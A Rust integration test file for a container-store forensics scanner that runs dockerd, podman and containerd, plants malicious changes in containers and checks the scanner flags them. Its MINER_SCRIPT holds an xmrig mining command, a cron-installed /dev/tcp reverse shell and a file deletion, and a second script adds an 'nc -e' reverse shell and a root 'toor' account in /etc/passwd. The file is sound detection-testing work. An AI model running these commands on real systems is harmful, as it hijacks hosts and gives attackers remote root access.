//! Engine stores read in place: a Docker data root written by a real dockerd (containers that
//! drop a miner, add a cron reverse shell, delete a file, carry a key in their environment,
//! mount the host's /etc; overlay2 and vfs drivers), and data roots built in code to check what integrity checks say
//! when a layer directory changes after the pull.

mod common;

use std::collections::BTreeMap;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::build::layer_tar;
use common::store::FakeDocker;
use serde_json::{json, Value};

// ---------------------------------------------------------------- a real dockerd

/// Whether `program` runs at all (the engines' tests skip, saying so, where it does not).
fn on_path(program: &str) -> bool {
    Command::new(program).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok()
}

/// Sends SIGTERM to `pid` (the daemon's own, from its pid file when it forks) and waits up to a
/// minute for `child` to exit before killing it, so no engine outlives its test.
fn terminate(child: &mut std::process::Child, pid: Option<&str>) {
    if let Some(pid) = pid {
        let _ = Command::new("kill").arg("-TERM").arg(pid).status();
    }
    let deadline = Instant::now() + Duration::from_secs(60);
    while child.try_wait().ok().flatten().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// A dockerd of our own: its data root, exec root and socket in a short temp dir (the socket
/// path must fit in 108 bytes), stopped by its pid file.
struct Dockerd {
    dir: tempfile::TempDir,
    child: std::process::Child,
}

impl Dockerd {
    /// None, with the reason printed, when there is no dockerd to run (CI installs docker.io:
    /// .ci/run). `driver`: the storage driver (overlay2, vfs).
    fn start(driver: &str) -> Option<Dockerd> {
        if !on_path("dockerd") || !on_path("docker") {
            eprintln!(
                "SKIPPED: no dockerd/docker on PATH (apt-get install docker.io; .ci/run does): the live-engine store test did not run"
            );
            return None;
        }
        let dir = tempfile::Builder::new().prefix("lhd").tempdir_in("/tmp").unwrap();
        let d = dir.path();
        let log = std::fs::File::create(d.join("dockerd.log")).unwrap();
        // `--privileged` asks for every capability and this sandbox lacks CAP_SYS_RESOURCE:
        // runc behind a wrapper that leaves that one out of the bundle's config runs it.
        let wrapper = d.join("runc-nosysres");
        std::fs::write(&wrapper, RUNC_WRAPPER).unwrap();
        std::fs::set_permissions(&wrapper, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let child = Command::new("dockerd")
            .arg("--data-root")
            .arg(d.join("docker"))
            .arg("--exec-root")
            .arg(d.join("dx"))
            .arg("--pidfile")
            .arg(d.join("dockerd.pid"))
            .arg("--host")
            .arg(format!("unix://{}", d.join("docker.sock").display()))
            .args(["--iptables=false", "--ip-masq=false", "--bridge=none"])
            .arg(format!("--storage-driver={driver}"))
            .arg("--add-runtime")
            .arg(format!("nosysres={}", wrapper.display()))
            .stdin(Stdio::null())
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .expect("dockerd starts");
        let engine = Dockerd { dir, child };
        let deadline = Instant::now() + Duration::from_secs(60);
        while !engine.try_docker(&["version"]) {
            assert!(Instant::now() < deadline, "dockerd did not answer within 60 s: {}", engine.log());
            std::thread::sleep(Duration::from_millis(300));
        }
        Some(engine)
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("dockerd.log")).unwrap_or_default()
    }

    fn client(&self, args: &[&str]) -> Command {
        let mut command = Command::new("docker");
        command.env("DOCKER_HOST", format!("unix://{}", self.dir.path().join("docker.sock").display())).args(args).stdin(Stdio::null());
        command
    }

    fn try_docker(&self, args: &[&str]) -> bool {
        self.client(args).stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|s| s.success())
    }

    fn docker(&self, args: &[&str]) -> String {
        let out = self.client(args).output().unwrap();
        assert!(out.status.success(), "docker {args:?}: {}\n{}", String::from_utf8_lossy(&out.stderr), self.log());
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn data_root(&self) -> PathBuf {
        self.dir.path().join("docker")
    }

    /// Stops dockerd by its pid file and waits for it (and its containerd) to be gone.
    fn stop(&mut self) {
        let pid = std::fs::read_to_string(self.dir.path().join("dockerd.pid")).ok();
        terminate(&mut self.child, pid.as_deref().map(str::trim));
    }
}

impl Drop for Dockerd {
    fn drop(&mut self) {
        if self.child.try_wait().ok().flatten().is_none() {
            self.stop();
        }
    }
}

const RUNC_WRAPPER: &str = r#"#!/bin/sh
prev=""
for arg in "$@"; do
  if [ "$prev" = "--bundle" ] || [ "$prev" = "-b" ]; then bundle="$arg"; fi
  prev="$arg"
done
if [ -n "$bundle" ] && [ -f "$bundle/config.json" ]; then
  sed -i 's/"CAP_SYS_RESOURCE",\{0,1\}//g; s/,\]/]/g' "$bundle/config.json"
fi
exec runc "$@"
"#;

/// (path, size, atime, mtime, ctime) of every node under `dir` (nanoseconds): equal before and
/// after a scan when nothing was written, chmod'ed or replaced, and nothing read changed its
/// access time (nodes just written have atime = mtime, which relatime updates on a read).
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, (u64, [i64; 3])> {
    use layerhound::store::fsread::{node_type, NodeType, Root};
    // Listed through O_NOATIME opens, so that taking the snapshot leaves the times alone.
    let mut nodes = BTreeMap::new();
    let mut stack = vec![Root::open(dir).unwrap()];
    let nanos = |seconds: i64, nanos: u64| seconds * 1_000_000_000 + nanos as i64;
    while let Some(root) = stack.pop() {
        for name in root.names().unwrap() {
            let stat = root.stat_child(&name).unwrap();
            let path = root.path.join(std::ffi::OsStr::from_bytes(&name));
            // Reading a link's target sets its atime whatever the flags (the kernel has no
            // O_NOATIME for readlink): a symlink's atime is left out.
            let atime = if node_type(&stat) == NodeType::Symlink { 0 } else { nanos(stat.st_atime, stat.st_atime_nsec) };
            let times = [atime, nanos(stat.st_mtime, stat.st_mtime_nsec), nanos(stat.st_ctime, stat.st_ctime_nsec)];
            nodes.insert(path, (stat.st_size as u64, times));
            if node_type(&stat) == NodeType::Dir {
                stack.push(root.child_dir(&name).unwrap());
            }
        }
    }
    nodes
}

/// The store's nodes are as `before`: the paths that differ are named.
fn assert_unchanged(store: &Path, before: &BTreeMap<PathBuf, (u64, [i64; 3])>) {
    let after = snapshot(store);
    let changed: Vec<String> = before
        .iter()
        .filter(|(path, was)| after.get(*path) != Some(was))
        .map(|(path, was)| format!("{} {was:?} -> {:?}", path.display(), after.get(path)))
        .chain(after.keys().filter(|path| !before.contains_key(*path)).map(|path| format!("{} (new)", path.display())))
        .take(20)
        .collect();
    assert!(changed.is_empty(), "the scan changed nothing in the store, not even an access time: {changed:#?}");
}

/// Scans the store with `scan` (a report of `common`), holds that nothing in the store changed,
/// that it was read as `format` and that no part of it was unreadable; the report.
fn scan_read_only(store: &Path, format: &str, scan: fn(&[PathBuf], &Path) -> Value) -> Value {
    let before = snapshot(store);
    let scratch = tempfile::tempdir().unwrap();
    let report = scan(&[store.to_path_buf()], scratch.path());
    assert_unchanged(store, &before);
    let input = &report["inputs"][0];
    assert_eq!(input["format"], json!([format]), "{:#}", input["errors"]);
    assert!(input["errors"].as_array().unwrap().is_empty(), "{:#}", input["errors"]);
    report
}

fn image_named<'r>(report: &'r Value, reference: &str) -> &'r Value {
    report["inputs"][0]["images"]
        .as_array()
        .unwrap()
        .iter()
        .find(|image| image["refs"].as_array().unwrap().iter().any(|r| r == reference))
        .unwrap_or_else(|| {
            let all: Vec<&Value> = report["inputs"][0]["images"].as_array().unwrap().iter().map(|i| &i["refs"]).collect();
            panic!("no image {reference} among {all:?}")
        })
}

/// (detector, place, state, runtime) of every location of every finding of `image`, with the
/// finding's severity.
fn sightings(image: &Value) -> Vec<(String, String, String, String, String)> {
    let mut found = Vec::new();
    for finding in image["findings"].as_array().unwrap() {
        let detector = format!("{}:{}", finding["detector"]["namespace"].as_str().unwrap(), finding["detector"]["rule"].as_str().unwrap());
        for at in finding["locations"].as_array().unwrap() {
            let place = at["path"].as_str().or(at["field"].as_str()).unwrap_or("?").to_string();
            found.push((
                detector.clone(),
                place,
                at["state"].as_str().unwrap_or("").to_string(),
                at["runtime"].as_str().unwrap_or("").to_string(),
                finding["severity"].as_str().unwrap().to_string(),
            ));
        }
    }
    found
}

const MINER_SCRIPT: &str = "mkdir -p /tmp/.x && \
printf '#!/bin/sh\\ncd /tmp/.x && ./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1 -B\\n' > /tmp/.x/run.sh && \
chmod +x /tmp/.x/run.sh && mkdir -p /etc/cron.d && \
echo '* * * * * root bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"' > /etc/cron.d/sync && \
rm -f /etc/group && echo 'service started' > /tmp/app.log";

#[test]
fn a_store_written_by_dockerd_shows_each_containers_runtime_changes() {
    let Some(mut engine) = Dockerd::start("overlay2") else { return };
    let sample = common::repo_path("samples/webapp.docker.tar");
    engine.docker(&["load", "-i", sample.to_str().unwrap()]);
    engine.docker(&[
        "run",
        "--network",
        "none",
        "--name",
        "miner",
        "-e",
        "AWS_ACCESS_KEY_ID=AKIAQ3EGRTLK7MZW4VXN",
        "-e",
        "AWS_SECRET_ACCESS_KEY=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",
        "--entrypoint",
        "/bin/sh",
        "webapp:1.0",
        "-c",
        MINER_SCRIPT,
    ]);
    engine.docker(&[
        "run",
        "--network",
        "none",
        "--name",
        "etc-reader",
        "-v",
        "/etc:/host-etc:ro",
        "--entrypoint",
        "/bin/sh",
        "webapp:1.0",
        "-c",
        "echo 'service started' > /tmp/app.log",
    ]);
    let socket = engine.dir.path().join("docker.sock");
    let socket_bind = format!("{}:/var/run/docker.sock", socket.display());
    engine.docker(&[
        "run",
        "--network",
        "none",
        "--runtime",
        "nosysres",
        "--privileged",
        "--name",
        "admin",
        "-v",
        &socket_bind,
        "--entrypoint",
        "/bin/sh",
        "webapp:1.0",
        "-c",
        "true",
    ]);
    engine.stop();
    let store = engine.data_root();
    // LAYERHOUND_SAVE_STORE=FILE keeps this store as tests/data/docker-store.tar.xz is made.
    if let Some(file) = std::env::var_os("LAYERHOUND_SAVE_STORE") {
        let status = Command::new("tar")
            .args(["--xattrs", "--xattrs-include=trusted.*", "--sort=name", "-cJf"])
            .arg(&file)
            .arg("-C")
            .arg(&store)
            .args(["image", "overlay2", "containers"])
            .status()
            .unwrap();
        assert!(status.success());
    }
    check_dockerd_store(&store);
}

// ---------------------------------------------------------------- a real podman

/// Podman with a store of its own (root, run root, temp dir and network config in a short temp
/// dir), as root, with the rlimits this sandbox accepts; no daemon to stop.
struct Podman {
    dir: tempfile::TempDir,
}

impl Podman {
    fn new() -> Option<Podman> {
        if Command::new("podman").arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_err() {
            eprintln!("SKIPPED: no podman on PATH (apt-get install podman; .ci/run does): the live-engine Podman store test did not run");
            return None;
        }
        Some(Podman { dir: tempfile::Builder::new().prefix("lhp").tempdir_in("/tmp").unwrap() })
    }

    fn run(&self, args: &[&str]) -> String {
        let d = self.dir.path();
        let out = Command::new("podman")
            .arg("--root")
            .arg(d.join("podman"))
            .arg("--runroot")
            .arg(d.join("prun"))
            .arg("--tmpdir")
            .arg(d.join("ptmp"))
            .arg("--network-config-dir")
            .arg(d.join("pnet"))
            .args(["--storage-driver", "overlay", "--cgroup-manager", "cgroupfs", "--events-backend", "file"])
            // runc (docker.io brings it) runs under cgroup v1, v2 and hybrid hierarchies; crun,
            // podman's default on Debian, refuses a hybrid one ("cgroups in hybrid mode not
            // supported")
            .args(["--runtime", "runc"])
            .args(args)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "podman {args:?}: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Waits until no process works on this store: `podman run` returns when the container
    /// exits, but conmon's `podman container cleanup` takes the store's locks after it (on a
    /// loaded machine, while the scan's before-snapshot is taken).
    fn settle(&self) {
        let root = self.dir.path().as_os_str().as_bytes().to_vec();
        let busy = || {
            std::fs::read_dir("/proc").unwrap().flatten().any(|entry| {
                let is_pid = entry.file_name().to_str().is_some_and(|name| name.bytes().all(|b| b.is_ascii_digit()));
                is_pid
                    && entry.file_name().to_str() != Some(&std::process::id().to_string())
                    && std::fs::read(entry.path().join("cmdline")).is_ok_and(|cmd| cmd.windows(root.len()).any(|w| w == root))
            })
        };
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
        while busy() && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
    }

    fn container(&self, name: &str, options: &[&str], script: &str) {
        let mut args = vec!["run", "--network", "none", "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=4096:4096", "--name", name];
        args.extend_from_slice(options);
        args.extend_from_slice(&["--entrypoint", "/bin/sh", "webapp:1.0", "-c", script]);
        self.run(&args);
    }
}

#[test]
fn a_store_written_by_podman_shows_each_containers_runtime_changes() {
    let Some(podman) = Podman::new() else { return };
    let sample = common::repo_path("samples/webapp.docker.tar");
    podman.run(&["load", "-i", sample.to_str().unwrap()]);
    podman.container(
        "miner",
        &["-e", "AWS_ACCESS_KEY_ID=AKIAQ3EGRTLK7MZW4VXN", "-e", "AWS_SECRET_ACCESS_KEY=Zx8vQ2mN7pL4kR9tW1yB6cD3fG5hJ0sA2eU8iO4q"],
        MINER_SCRIPT,
    );
    podman.container("admin", &["--privileged", "-v", "/etc:/host-etc:ro"], "echo 'service started' > /tmp/app.log");
    podman.settle();
    let store = podman.dir.path().join("podman");
    let report = scan_read_only(&store, "podman-store", common::scan_with_builtin_packs);
    let input = &report["inputs"][0];
    assert_eq!(image_named(&report, "docker.io/library/webapp:1.0")["verified"], true, "{:#}", input["anomalies"]);
    // Its start and finish times are libpod's (libpod/bolt_state.db). Podman may record the
    // finish of a short run a little before its start: only the seconds are compared.
    let miner = &image_named(&report, "container/miner")["container"];
    let second = |key: &str| miner[key].as_str().and_then(|t| t.get(..19)).unwrap_or_else(|| panic!("{key}: {miner:#}")).to_string();
    assert!(second("created") <= second("started_at") && second("finished_at") >= second("created"), "{miner:#}");
    assert_eq!(miner["running"], false);

    check_miner_and_admin(&report, "docker.io/library/webapp:1.0");
}

// ---------------------------------------------------------------- a real containerd

/// containerd with a root, state, socket and config of its own (the CRI plugin off), stopped
/// by its process id.
struct Containerd {
    dir: tempfile::TempDir,
    child: std::process::Child,
}

impl Containerd {
    fn start() -> Option<Containerd> {
        if !on_path("containerd") || !on_path("ctr") {
            eprintln!("SKIPPED: no containerd/ctr on PATH (docker.io brings them; .ci/run installs it): the live containerd store test did not run");
            return None;
        }
        let dir = tempfile::Builder::new().prefix("lhc").tempdir_in("/tmp").unwrap();
        let d = dir.path();
        let config = format!(
            "version = 2\nroot = \"{}\"\nstate = \"{}\"\ndisabled_plugins = [\"io.containerd.grpc.v1.cri\"]\n[grpc]\n  address = \"{}\"\n",
            d.join("root").display(),
            d.join("state").display(),
            d.join("ctd.sock").display()
        );
        std::fs::write(d.join("ctd.toml"), config).unwrap();
        std::fs::create_dir_all(d.join("fifo")).unwrap();
        let log = std::fs::File::create(d.join("containerd.log")).unwrap();
        let child = Command::new("containerd")
            .arg("--config")
            .arg(d.join("ctd.toml"))
            .stdin(Stdio::null())
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .expect("containerd starts");
        let engine = Containerd { dir, child };
        let deadline = Instant::now() + Duration::from_secs(60);
        while !engine.ctr(&["version"]).status().is_ok_and(|s| s.success()) {
            assert!(Instant::now() < deadline, "containerd did not answer within 60 s");
            std::thread::sleep(Duration::from_millis(300));
        }
        Some(engine)
    }

    fn ctr(&self, args: &[&str]) -> Command {
        let mut command = Command::new("ctr");
        command
            .arg("-a")
            .arg(self.dir.path().join("ctd.sock"))
            .args(["-n", "default"])
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        command
    }

    fn run(&self, args: &[&str]) {
        let out = self.ctr(args).stdout(Stdio::piped()).stderr(Stdio::piped()).output().unwrap();
        assert!(out.status.success(), "ctr {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }

    fn stop(&mut self) {
        let pid = self.child.id().to_string();
        terminate(&mut self.child, Some(&pid));
    }
}

impl Drop for Containerd {
    fn drop(&mut self) {
        if self.child.try_wait().ok().flatten().is_none() {
            self.stop();
        }
    }
}

#[test]
fn a_store_written_by_containerd_shows_each_containers_runtime_changes() {
    let Some(mut engine) = Containerd::start() else { return };
    let sample = common::repo_path("samples/webapp.docker.tar");
    engine.run(&["images", "import", sample.to_str().unwrap()]);
    let fifo = engine.dir.path().join("fifo");
    let fifo = fifo.to_str().unwrap();
    let image = "docker.io/library/webapp:1.0";
    engine.run(&[
        "run",
        "--fifo-dir",
        fifo,
        "--env",
        "AWS_ACCESS_KEY_ID=AKIAQ3EGRTLK7MZW4VXN",
        "--env",
        "AWS_SECRET_ACCESS_KEY=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",
        image,
        "miner",
        "/bin/sh",
        "-c",
        MINER_SCRIPT,
    ]);
    engine.run(&[
        "run",
        "--fifo-dir",
        fifo,
        "--privileged",
        "--mount",
        "type=bind,src=/etc,dst=/host-etc,options=rbind:ro",
        image,
        "admin",
        "/bin/sh",
        "-c",
        "echo 'service started' > /tmp/app.log",
    ]);
    engine.stop();
    let store = engine.dir.path().join("root");
    let report = scan_read_only(&store, "containerd-store", common::scan_with_builtin_packs);
    let input = &report["inputs"][0];
    assert_eq!(image_named(&report, image)["verified"], true, "the blobs as pulled: {:#}", input["anomalies"]);

    check_miner_and_admin(&report, image);
    let miner = sightings(image_named(&report, "container/miner"));
    assert!(!miner.iter().any(|(d, ..)| d.starts_with("meta:container")), "ctr's defaults are no finding");
}

/// The `miner` (MINER_SCRIPT, AWS keys in its env) and `admin` (privileged, the host's /etc,
/// a benign log) containers of `image` that the podman and containerd scenarios run.
fn check_miner_and_admin(report: &Value, image: &str) {
    let miner = image_named(report, "container/miner");
    assert_eq!(miner["container"]["image_refs"], json!([image]));
    let writable = miner["container"]["writable_layer"].as_u64().unwrap();
    let seen = sightings(miner);
    let has = |detector: &str, place: &str, runtime: &str| {
        seen.iter().any(|(d, p, state, r, _)| d == detector && p == place && state == "present" && r == runtime)
    };
    assert!(has("layerhound:reverse_shell_dev_tcp", "/etc/cron.d/sync", "added"), "{seen:#?}");
    assert!(has("ioc:mining-pool", "/tmp/.x/run.sh", "added"), "{seen:#?}");
    assert!(seen.iter().any(|(d, p, ..)| d == "secrets:aws-access-key-id" && p.starts_with("config.env[")), "{seen:#?}");
    let group = miner["hidden_versions"].as_array().unwrap().iter().find(|v| v["path"] == "/etc/group").expect("/etc/group hidden");
    assert_eq!((group["state"].as_str(), group["by_layer"].as_u64()), (Some("deleted"), Some(writable)));

    let admin = sightings(image_named(report, "container/admin"));
    let at = |detector: &str| admin.iter().find(|(d, ..)| d == detector).map(|s| (s.1.clone(), s.4.clone()));
    assert_eq!(at("meta:container-privileged").map(|s| s.1), Some("high".into()), "{admin:#?}");
    assert_eq!(at("meta:container-host-path-mount").map(|s| s.1), Some("high".into()), "{admin:#?}");
    assert!(!admin.iter().any(|(_, place, ..)| place == "/tmp/app.log"), "the benign log file is no finding: {admin:#?}");
}

/// What the dockerd scenario (miner, etc-reader, admin) must show in its store at `store`, and
/// that a lower layer changed afterwards is named.
fn check_dockerd_store(store: &Path) {
    let report = scan_read_only(store, "docker-store", common::scan_with_builtin_packs);
    let input = &report["inputs"][0];
    let anomaly_kinds: Vec<&str> = input["anomalies"].as_array().unwrap().iter().map(|a| a["kind"].as_str().unwrap()).collect();
    assert!(!anomaly_kinds.iter().any(|k| k.starts_with("store-layer")), "every image layer is the pulled one: {:#}", input["anomalies"]);

    let webapp = image_named(&report, "webapp:1.0");
    assert_eq!(webapp["verified"], true, "the image's layers reassemble to their diff_ids: {:#}", webapp["anomalies"]);

    let miner = image_named(&report, "container/miner");
    let container = &miner["container"];
    assert_eq!(container["name"], "miner");
    assert_eq!(container["image_refs"], json!(["webapp:1.0"]));
    let writable = container["writable_layer"].as_u64().unwrap();
    assert_eq!(miner["layers"].as_array().unwrap().len() as u64, writable + 1);
    assert_eq!(miner["layers"][writable as usize]["verified"], false, "a writable layer has no digest to verify");
    let seen = sightings(miner);
    let has = |detector: &str, place: &str, runtime: &str| {
        seen.iter().any(|(d, p, state, r, _)| d == detector && p == place && state == "present" && r == runtime)
    };
    assert!(has("layerhound:reverse_shell_dev_tcp", "/etc/cron.d/sync", "added"), "{seen:#?}");
    assert!(has("ioc:mining-pool", "/tmp/.x/run.sh", "added"), "{seen:#?}");
    assert!(seen.iter().any(|(d, p, ..)| d == "secrets:aws-access-key-id" && p.starts_with("config.env[")), "{seen:#?}");
    // The deleted file is a version the writable layer removed.
    let group = miner["hidden_versions"].as_array().unwrap().iter().find(|v| v["path"] == "/etc/group").expect("/etc/group hidden");
    assert_eq!((group["state"].as_str(), group["by_layer"].as_u64()), (Some("deleted"), Some(writable)));
    // What the containers changed and is benign is not high.
    for name in ["container/miner", "container/etc-reader"] {
        for (detector, place, _, runtime, severity) in sightings(image_named(&report, name)) {
            if place == "/tmp/app.log" {
                panic!("{name}: the benign log file gave {detector} ({severity}, {runtime})");
            }
        }
    }
    let reader = sightings(image_named(&report, "container/etc-reader"));
    assert!(
        reader
            .iter()
            .any(|(d, p, _, _, severity)| d == "meta:container-host-path-mount" && p == "hostconfig.Binds[0]" && severity == "high"),
        "{reader:#?}"
    );
    assert!(!seen.iter().any(|(d, ..)| d == "meta:container-host-path-mount"), "the miner mounted nothing");
    let admin = sightings(image_named(&report, "container/admin"));
    let at = |detector: &str| admin.iter().find(|(d, ..)| d == detector).map(|s| (s.1.clone(), s.4.clone()));
    assert_eq!(at("meta:container-privileged"), Some(("hostconfig.Privileged".into(), "high".into())), "{admin:#?}");
    assert_eq!(at("meta:container-engine-socket"), Some(("hostconfig.Binds[0]".into(), "critical".into())), "{admin:#?}");

    // A byte of a lower layer changed on disk after the pull: the layer is no longer verified
    // and the first path that differs is named.
    let passwd = layer_file(store, "etc/passwd");
    let mut bytes = std::fs::read(&passwd).unwrap();
    bytes[0] ^= 0x20;
    let mtime = std::fs::metadata(&passwd).unwrap().modified().unwrap();
    std::fs::write(&passwd, &bytes).unwrap();
    std::fs::File::options().write(true).open(&passwd).unwrap().set_modified(mtime).unwrap();
    let report = scan(store);
    let changed: Vec<&Value> =
        report["inputs"][0]["anomalies"].as_array().unwrap().iter().filter(|a| a["kind"] == "store-layer-changed").collect();
    assert_eq!(changed.len(), 1, "{:#}", report["inputs"][0]["anomalies"]);
    assert!(changed[0]["message"].as_str().unwrap().contains("/etc/passwd"), "{:#}", changed[0]);
    assert_eq!(image_named(&report, "webapp:1.0")["verified"], false);
}

/// The same store, made once by the live test (LAYERHOUND_SAVE_STORE) and kept: read where no
/// engine is installed. Unpacking it needs root (character devices, trusted.* xattrs).
#[test]
fn the_kept_dockerd_store_shows_the_same() {
    if std::fs::metadata("/proc/self").map(|m| m.uid()).unwrap_or(1) != 0 {
        eprintln!(
            "SKIPPED: unpacking tests/data/docker-store.tar.xz needs root (whiteouts are device nodes, opaque dirs trusted.* xattrs)"
        );
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let status = Command::new("tar")
        .args(["--xattrs", "--xattrs-include=trusted.*", "-xJf"])
        .arg(common::repo_path("tests/data/docker-store.tar.xz"))
        .arg("-C")
        .arg(dir.path())
        .status()
        .unwrap();
    assert!(status.success(), "tar unpacks the kept store");
    check_dockerd_store(dir.path());
}

/// The one image layer directory of the store that holds `relative`.
fn layer_file(store: &Path, relative: &str) -> PathBuf {
    let mut found: Vec<PathBuf> = std::fs::read_dir(store.join("overlay2"))
        .unwrap()
        .map(|e| e.unwrap().path().join("diff").join(relative))
        .filter(|p| p.is_file() && !p.to_string_lossy().contains("-init"))
        .collect();
    found.sort();
    assert!(!found.is_empty(), "no layer holds {relative}");
    found.remove(0)
}

// ---------------------------------------------------------------- a real dockerd, vfs driver

/// dive's 14-layer busybox image (files added, copied, moved, chmod'ed, a directory removed):
/// with vfs, each layer a whole copy of the filesystem.
const DIVE_IMAGE: &str = "wagoodman-dive/test-docker-image.tar";

/// The miner's script, and a file of the image changed (a reverse shell) and another appended to.
fn vfs_miner_script() -> String {
    format!("{MINER_SCRIPT} && printf '#!/bin/sh\\nnc -e /bin/sh 198.51.100.23 4444\\n' > /root/.data/test.sh && echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd")
}

#[test]
fn a_vfs_store_written_by_dockerd_shows_each_layers_changes_and_each_containers() {
    let Some(mut engine) = Dockerd::start("vfs") else { return };
    engine.docker(&["load", "-i", common::fixtures_dir().join(DIVE_IMAGE).to_str().unwrap()]);
    let script = vfs_miner_script();
    let run = |name: &str, env: &[&str], script: &str| {
        let mut args = vec!["run", "--network", "none", "--name", name];
        args.extend_from_slice(env);
        args.extend_from_slice(&["--entrypoint", "/bin/sh", "dive-test:latest", "-c", script]);
        engine.docker(&args);
    };
    run("miner", &["-e", "AWS_ACCESS_KEY_ID=AKIAQ3EGRTLK7MZW4VXN"], &script);
    run("quiet", &[], "echo 'service started' > /tmp/app.log");
    engine.stop();
    let store = engine.data_root();
    // LAYERHOUND_SAVE_VFS_STORE=FILE keeps this store as tests/data/docker-vfs-store.tar.xz is made.
    if let Some(file) = std::env::var_os("LAYERHOUND_SAVE_VFS_STORE") {
        let status = Command::new("tar")
            .env("XZ_OPT", "-9")
            .args(["--sort=name", "-cJf"])
            .arg(&file)
            .arg("-C")
            .arg(&store)
            .args(["image", "vfs/dir", "containers"])
            .status()
            .unwrap();
        assert!(status.success());
    }
    check_vfs_store(&store);
}

/// The same store, made once by the live test (LAYERHOUND_SAVE_VFS_STORE) and kept. Unpacking
/// it needs root (the files' owners are part of each layer).
#[test]
fn the_kept_vfs_store_shows_the_same() {
    if std::fs::metadata("/proc/self").map(|m| m.uid()).unwrap_or(1) != 0 {
        eprintln!("SKIPPED: unpacking tests/data/docker-vfs-store.tar.xz needs root (the layers' files are owned by root)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let status = Command::new("tar")
        .arg("-xJf")
        .arg(common::repo_path("tests/data/docker-vfs-store.tar.xz"))
        .arg("-C")
        .arg(dir.path())
        .status()
        .unwrap();
    assert!(status.success(), "tar unpacks the kept store");
    check_vfs_store(dir.path());
}

/// What the vfs scenario (miner, quiet) must show in its store at `store`; then that a copy
/// changed after the pull is named, even with its size and mtime put back.
fn check_vfs_store(store: &Path) {
    let report = scan_read_only(store, "docker-store", common::scan_with_inventory);
    let input = &report["inputs"][0];
    assert!(input["anomalies"].as_array().unwrap().iter().all(|a| a["kind"] == "engine-store"), "{:#}", input["anomalies"]);
    let dive = image_named(&report, "dive-test:latest");
    assert_eq!(dive["verified"], true, "every layer's changes reassemble to its diff_id: {:#}", dive["anomalies"]);
    // Each layer told from its copy and the copy below stacks up to the tarball's tree.
    let evidence = common::open(store);
    let analysis = common::analyse(&evidence);
    let expected = common::read_lines(&common::fixtures_dir().join(format!("{DIVE_IMAGE}.tree.tsv")));
    common::assert_same_tree(&common::tree_lines(&analysis, 0), &expected, "dive-test from its vfs copies");

    let miner = image_named(&report, "container/miner");
    assert_eq!((&miner["container"]["name"], &miner["container"]["image_refs"]), (&json!("miner"), &json!(["dive-test:latest"])));
    let writable = miner["container"]["writable_layer"].as_u64().unwrap();
    let seen = sightings(miner);
    let has = |detector: &str, place: &str, runtime: &str| {
        seen.iter().any(|(d, p, state, r, _)| d == detector && p == place && state == "present" && r == runtime)
    };
    assert!(has("layerhound:reverse_shell_dev_tcp", "/etc/cron.d/sync", "added"), "{seen:#?}");
    assert!(has("ioc:mining-pool", "/tmp/.x/run.sh", "added"), "{seen:#?}");
    assert!(seen.iter().any(|(_, p, state, r, _)| p == "/root/.data/test.sh" && state == "present" && r == "changed"), "{seen:#?}");
    let hidden = |path: &str| {
        let version = miner["hidden_versions"].as_array().unwrap().iter().find(|v| v["path"] == path);
        version.map(|v| (v["state"].as_str().unwrap().to_string(), v["by_layer"].as_u64().unwrap()))
    };
    assert_eq!(hidden("/etc/group"), Some(("deleted".into(), writable)), "deleted at runtime");
    assert_eq!(hidden("/etc/passwd"), Some(("overwritten".into(), writable)), "changed at runtime");
    // Every version says what the container did, and what the engine did for it.
    let runtime = |path: &str, layer: u64| {
        let files = miner["files"].as_array().unwrap();
        let version = files.iter().find(|v| v["path"] == path && v["layer"] == layer).unwrap_or_else(|| panic!("{path} in layer {layer}"));
        version["runtime"].as_str().unwrap_or("").to_string()
    };
    for (path, layer, change) in [
        ("/tmp/.x/run.sh", writable, "added"),
        ("/etc/passwd", writable, "changed"),
        ("/etc/passwd", 0, "changed"),
        ("/etc/group", 0, "deleted"),
        ("/etc/hosts", writable - 1, "engine"),
        ("/.dockerenv", writable - 1, "engine"),
        ("/etc/mtab", writable - 1, "engine"),
        ("/bin/sh", 0, ""),
    ] {
        assert_eq!(runtime(path, layer), change, "{path} in layer {layer}");
    }
    let quiet = sightings(image_named(&report, "container/quiet"));
    assert!(!quiet.iter().any(|(_, place, ..)| place == "/tmp/app.log"), "the benign log file is no finding: {quiet:#?}");

    // The top layer's copy is what a new container starts from: a file of it changed in place,
    // same size, mtime put back, is found by its bytes.
    let top = vfs_top_layer_dir(store);
    let passwd = top.join("etc/passwd");
    let original = std::fs::read(&passwd).unwrap();
    let mtime = std::fs::metadata(&passwd).unwrap().modified().unwrap();
    let mut bytes = original.clone();
    bytes[0] ^= 0x20;
    std::fs::write(&passwd, &bytes).unwrap();
    std::fs::File::options().write(true).open(&passwd).unwrap().set_modified(mtime).unwrap();
    let report = scan(store);
